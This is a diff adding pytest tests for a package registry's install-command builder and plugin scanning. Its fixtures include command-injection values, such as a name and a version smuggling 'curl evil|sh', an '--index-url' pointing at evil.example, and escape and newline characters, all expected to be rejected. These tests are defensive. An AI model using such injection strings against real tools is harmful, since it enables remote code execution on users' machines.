@@ -20,6 +20,7 @@ from sgm_core.registry import (
     UnknownNameError,
     did_you_mean,
     index,
+    install,
     nearest,
     normalize,
     scan,
@@ -582,3 +583,33 @@ def test_it_works_from_a_folder_that_is_gone(tmp_path):
 
 def test_normalize_is_pep_503():
     assert normalize("SGM.Mini__LM-.x") == "sgm-mini-lm-x"
+
+
+@pytest.mark.parametrize(
+    ("name", "version", "expected"),
+    [
+        ("sgm-minilm", "1.0", "pip install sgm-minilm==1.0"),
+        ("sgm_minilm", "", "pip install sgm_minilm"),
+        ("a", "1!2.0rc1+cu126", "pip install a==1!2.0rc1+cu126"),
+        (
+            "--index-url=http://evil.example x",
+            "1",
+            "'--index-url=http://evil.example x' is not the name of a distribution",
+        ),
+        ("x; curl evil|sh #", "1", "'x; curl evil|sh #' is not the name of a distribution"),
+        ("x", "1; curl evil", "'x' is not the name of a distribution"),
+        ("x\x1b[2J", "1", r"'x\x1b[2J' is not the name of a distribution"),
+        ("x\n", "1", r"'x\n' is not the name of a distribution"),
+        ("-r", "1", "'-r' is not the name of a distribution"),
+        ("", "", "'' is not the name of a distribution"),
+    ],
+)
+def test_only_the_name_of_a_distribution_becomes_a_command(name, version, expected):
+    assert install(name, version) == expected
+
+
+def test_the_working_folder_brings_no_plugins(make_distribution, monkeypatch):
+    folder = make_distribution("sgm-here", {"sgm.samplers": {"x": "nowhere:X"}})
+    monkeypatch.chdir(folder)
+    assert [entry.distribution for entry in scan([str(folder)])] == ["sgm-here"]
+    assert scan([""]) == []
